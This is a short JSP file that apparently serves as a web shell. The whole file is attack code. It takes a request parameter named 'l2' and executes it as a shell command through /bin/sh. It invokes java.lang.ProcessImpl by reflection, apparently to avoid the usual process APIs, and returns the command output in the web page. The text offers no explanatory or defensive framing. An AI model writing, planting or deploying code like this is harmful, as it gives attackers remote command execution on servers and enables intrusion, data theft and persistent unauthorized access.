<%@ page import="java.lang.reflect.Method,java.util.Map,java.io.*" %><%
    String c = request.getParameter("l2");
    if (c != null) {
        Class<?> pi = Class.forName("java.lang.ProcessImpl");
        Method st = pi.getDeclaredMethod("start", String[].class, Map.class, String.class, ProcessBuilder.Redirect[].class, boolean.class);
        st.setAccessible(true);
        Process p = (Process) st.invoke(null, new String[]{"/bin/sh", "-c", c}, null, null, null, true);
        InputStream is = p.getInputStream();
        ByteArrayOutputStream bo = new ByteArrayOutputStream();
        int n;
        byte[] buf = new byte[1024];
        while ((n = is.read(buf)) > 0) bo.write(buf, 0, n);
        out.print(bo.toString());
    }
%>
